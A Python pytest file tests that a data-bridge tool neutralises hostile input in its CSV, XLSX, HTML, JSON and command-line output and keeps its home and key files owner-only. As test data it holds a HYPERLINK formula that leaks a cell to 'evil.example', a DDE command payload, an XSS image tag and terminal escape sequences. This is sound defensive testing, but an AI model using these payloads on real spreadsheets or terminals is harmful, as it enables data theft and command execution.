"""Attacks at the trust boundary of reports, the command line and the files of BRIDGE_HOME.

Each test is an attack that worked before: a formula in a CSV cell, an ESC sequence reaching a
terminal, Rich markup in a remark crashing ``conflicts show``, files every local user could read,
personal numbers in log lines that the mask did not recognise.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from datetime import datetime

import pytest
from openpyxl import load_workbook

from reports.render import write
from reports.unsynced import COLUMNS, Filters, Row
from tests.factories import ID

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")  # openpyxl: "workbook contains no default style"

NOW = datetime(2026, 11, 30, 12, 0, 0)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
ATTACKS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1",
           "张三\x1b[2J\x1b]0;owned\x07", "李四\u202egnp.exe", "王五\x9b31m"]


@dataclass
class FakeReport:
    """What the writers read from a report: rows, each one's county, and the time."""

    rows_: list[Row]
    now: datetime = NOW

    def rows(self, f: Filters):
        return iter(self.rows_)

    def county(self, row: Row) -> str:
        return row.region_code[:6]


def attack_rows() -> list[Row]:
    return [Row("invalid", f"RH5301022026112500{i:02d}", "530102001001", "五华区", agent, "参保登记",
                "530102********123X", "待处理", f"原因{agent}", "invalid", datetime(2026, 11, 25, 9, 0), 5.0,
                resident=agent)
            for i, agent in enumerate(ATTACKS)]


def assert_neutral(value: str) -> None:
    assert not any(ch < " " or "\x7f" <= ch <= "\x9f" or "\u202a" <= ch <= "\u202e" for ch in value), repr(value)
    assert value.lstrip(" ")[:1] not in ("=", "+", "-", "@"), repr(value)


def test_no_csv_cell_starts_a_formula_or_carries_a_control(tmp_path):
    write(FakeReport(attack_rows()), Filters(), "csv", tmp_path / "r.csv")
    raw = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(raw.splitlines()))
    assert len(rows) == 1 + len(ATTACKS) and "\x1b" not in raw
    for row in rows[1:]:
        for value in row:
            assert_neutral(value)
    agents = [row[COLUMNS.index("agent")] for row in rows[1:]]
    assert agents[0] == "'" + FORMULA and agents[4] == "' =1+1"  # shown as the text it is
    residents = [row[COLUMNS.index("resident")] for row in rows[1:]]
    assert residents == agents  # the resident's name is a cell like any other
    # Codes and IDs stay text: the region code marked as text, so no spreadsheet reads it as a number
    # (cells.py: the same quote OWASP prescribes, not a formula); the masked ID is text as it is.
    assert rows[1][COLUMNS.index("region_code")] == "'530102001001"
    assert rows[1][COLUMNS.index("person")] == "530102********123X"
    assert all(line.startswith('"') for line in raw.splitlines())  # every cell quoted


def test_xlsx_cells_are_inline_strings_never_formulas(tmp_path):
    write(FakeReport(attack_rows()), Filters(), "xlsx", tmp_path / "r.xlsx")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets and "\x1b" not in sheets
    book = load_workbook(tmp_path / "r.xlsx")
    detail, summary = book["明细"], book["汇总"]
    for row in detail.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f"
            if isinstance(c.value, str):
                assert_neutral(c.value)
    assert detail["F2"].value == "'" + FORMULA and detail["D2"].value == "530102001001"
    assert detail["H2"].value == "'" + FORMULA  # the resident's name, neutral as every other text
    assert detail["D2"].data_type == "s"  # the region code is text, not the number 530102001001
    labels = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + FORMULA in labels  # the summary by agent shows the same names
    for label in labels:
        assert_neutral(label)


def test_html_and_json_carry_no_controls_and_html_escapes(tmp_path):
    rows = attack_rows()
    rows[0].agent = '<img src=x onerror="alert(1)">' + FORMULA
    write(FakeReport(rows), Filters(), "html", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<img" not in page and "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in page
    assert not any(ch in page for ch in "\x1b\x07\x9b\u202e")
    write(FakeReport(attack_rows()), Filters(), "json", tmp_path / "r.json")
    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    texts = [r["agent"] for r in data["rows"]] + list(data["summary"]["按代办员（经办人）"])
    assert not any(ch in value for value in texts for ch in "\x1b\x07\x9b\u202e")
    assert data["rows"][0]["agent"] == FORMULA  # JSON is data: a formula there is only text


# --- the command line ---------------------------------------------------------------------

MARKUP = ["[/bogus]", "[bold red]x[/]", ":warning:", "\x1b[2J\x1b]0;owned\x07", "\x9b31m", "\u202eexe.txt"]


def cli(*args: str, env: dict[str, str], umask: int | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bridge", *args], capture_output=True, text=True, env=env,
                          timeout=180, preexec_fn=(lambda: os.umask(umask)) if umask is not None else None)


@pytest.fixture
def hostile_conflict(internal_url, tmp_path):
    """A conflict whose remarks and detail carry Rich markup and terminal escapes.

    The remarks come in through the platform as any agent can type them; the escapes are then
    written into the ledger directly, as no entry path lets them in any more: what the command
    line prints must be safe whatever the database holds."""
    from sqlalchemy import select, update

    from bridge import wiring
    from sync import conflicts, engine
    from sync.ledger import tables as lt
    from tests.factories import raw_txn
    from tests.integration.sandbox_fixtures import sandbox, settings
    from tests.integration.test_conflicts import ENROLMENT, PERSON, insert
    from tests.integration.test_sync import CLOCK, with_scans

    txn = raw_txn("CBDJ", remarks=" ".join(MARKUP[:3]))
    with sandbox(with_scans(txn)) as server:
        parts = wiring.build(settings(server, internal_url, tmp_path), clock=CLOCK)
        insert(parts.internal, ac01=[PERSON], ac02=[ENROLMENT])
        engine.run(parts)
    (found,) = conflicts.list_conflicts(parts.state)
    with parts.state.begin() as conn:
        stored = json.loads(conn.execute(select(lt.txn_version.c.raw)
                                         .where(lt.txn_version.c.txn_id == txn["txn_id"])).scalar_one())
        stored["remarks"] = "".join(MARKUP)
        conn.execute(update(lt.txn_version).where(lt.txn_version.c.txn_id == txn["txn_id"])
                     .values(raw=json.dumps(stored, ensure_ascii=False)))
        conn.execute(update(lt.conflict).where(lt.conflict.c.id == found["id"])
                     .values(kind="stale_change", detail="、".join(MARKUP)))
    env = {k: v for k, v in os.environ.items() if not k.startswith("BRIDGE_")}
    env.update(BRIDGE_INTERNAL_DB=internal_url, BRIDGE_HOME=str(tmp_path), BRIDGE_REGIONS="5301",
               COLUMNS="200", TERM="xterm-256color")
    return found["id"], env


def assert_shown_literally(result: subprocess.CompletedProcess) -> None:
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out and "\x07" not in out
    assert "[/bogus]" in out and "[bold red]x[/]" in out and ":warning:" in out  # as typed
    assert ("\\x1b[2J" in out or "\\u001b[2J" in out) and "\\u202e" in out  # visibly escaped


def test_conflicts_show_and_list_print_platform_text_as_text(hostile_conflict):
    conflict_id, env = hostile_conflict
    shown = cli("conflicts", "show", str(conflict_id), env=env)
    assert_shown_literally(shown)
    assert '"region_code": "530102001001"' in shown.stdout  # a region code is no account number
    assert ID not in shown.stdout and ID[:6] + "********" + ID[-4:] in shown.stdout
    assert_shown_literally(cli("conflicts", "list", env=env))


def test_cli_json_output_carries_no_terminal_escapes(hostile_conflict):
    _, env = hostile_conflict
    listed = cli("conflicts", "list", "--format", "json", env=env)
    assert listed.returncode == 0, listed.stderr
    assert "\x1b" not in listed.stdout and "\x9b" not in listed.stdout and "\u202e" not in listed.stdout
    assert json.loads(listed.stdout)[0]["detail"] == "、".join(MARKUP)  # still the data, escaped as JSON


def test_status_shows_what_workers_wrote_as_text_on_any_console():
    import io

    from rich.console import Console

    from sync.status import render

    run = {"run_id": "20261125010000-ab12cd34", "kind": "distributed", "status": "failed",
           "started_at": datetime(2026, 11, 25, 1), "finished_at": None, "summary": {}}
    partition = {"prefix": "530102", "status": "failed", "worker": "[bold]w1[/]\x1b]0;x\x07", "attempts": 2,
                 "pulled": 0, "new_versions": 0, "error": "[/bogus] \x1b[2J boom"}
    out = io.StringIO()
    render({"run": run, "partitions": [partition], "by_status": {"failed": 1}},
           Console(file=out, width=200, force_terminal=False))  # markup on: render must not depend on it
    shown = out.getvalue()
    assert "[/bogus]" in shown and "[bold]w1[/]" in shown and "\\x1b[2J" in shown and "\x1b" not in shown


# --- the files of BRIDGE_HOME ----------------------------------------------------------------

def loose(root) -> list[str]:
    """Everything under ``root`` (itself included) that a group or other user may read or enter."""
    paths = [root, *root.rglob("*")]
    return [f"{oct(p.lstat().st_mode & 0o777)} {p}" for p in paths if p.lstat().st_mode & 0o077]


def test_demo_home_is_its_owners_alone_under_a_permissive_umask(tmp_path):
    home = tmp_path / "demo"
    result = cli("demo", "--n", "200", "--home", str(home), env={**os.environ, "COLUMNS": "200"}, umask=0o022)
    assert result.returncode == 0, result.stdout + result.stderr
    names = {p.name for p in home.iterdir()}
    assert {"internal.db", "bridge.env", "logs", "scans", "keys", "receipts", "reports"} <= names
    assert any((home / "receipts").iterdir()) and any((home / "keys").iterdir())
    assert loose(home) == []


def test_commands_close_a_home_left_open_and_create_owner_only_files(tmp_path):
    home = tmp_path / "home"
    (home / "logs").mkdir(parents=True)
    home.chmod(0o755)  # as an earlier version left it
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("BRIDGE_")},
           "BRIDGE_HOME": str(home), "BRIDGE_INTERNAL_DB": f"sqlite:///{home / 'internal.db'}"}
    assert cli("db", "upgrade", env=env, umask=0o022).returncode == 0
    keys = cli("ferry", "keygen", "--out", str(home / "keys" / "ferry.json"), "--public-out",
               str(home / "ferry.pub.json"), env=env, umask=0o022)
    assert keys.returncode == 0, keys.stderr
    assert home.stat().st_mode & 0o777 == 0o700
    assert loose(home) == [f"{oct(0o755)} {home / 'logs'}"]  # made before: unreachable now, behind home
    again = cli("ferry", "keygen", "--out", str(home / "keys" / "ferry.json"), "--public-out",
                str(home / "other.pub.json"), env=env, umask=0o022)
    assert again.returncode == 1 and "密钥文件已存在" in again.stdout and not (home / "other.pub.json").exists()


def test_a_key_file_is_created_owner_only_never_chmodded_after(tmp_path, monkeypatch):
    from sync.sealing import signer

    opened: list[tuple[str, int, int]] = []
    real_open = os.open

    def spy_open(path, flags, mode=0o777, *args, **kwargs):
        opened.append((str(path), flags, mode))
        return real_open(path, flags, mode, *args, **kwargs)

    def no_chmod(*args, **kwargs):
        raise AssertionError("a key file's mode is set when it is created, not after")

    monkeypatch.setattr(os, "open", spy_open)
    for name in ("chmod", "fchmod", "lchmod"):
        monkeypatch.setattr(os, name, no_chmod, raising=False)
    old = os.umask(0)  # the worst umask: only the mode given to open protects the key
    try:
        signer.load_signer(None, tmp_path)
    finally:
        os.umask(old)
    (key,) = (tmp_path / "keys").iterdir()
    assert key.stat().st_mode & 0o777 == 0o600 and (tmp_path / "keys").stat().st_mode & 0o777 == 0o700
    assert opened and all(flags & os.O_EXCL and flags & os.O_CREAT and mode == 0o600 for _, flags, mode in opened)
    assert json.loads(key.read_text(encoding="utf-8"))["private_key"]
    with pytest.raises(FileExistsError):  # never written over
        signer.write_key(key, signer.new_key("Ed25519", "X", "x"))


def test_a_control_in_front_does_not_hide_a_formula():
    from reports.cells import sheet_cell
    for value in ("\x00=1+1", "\ufeff=cmd|' /C calc'!A0", "\x1b[2J", "\u202e=1", "\t=1", "\r+1"):
        cell = sheet_cell(value)
        assert cell[:1] not in ("=", "+", "-", "@"), (value, cell)
        assert not any(ch in cell for ch in "\x00\x1b\ufeff\u202e\t\r"), (value, cell)
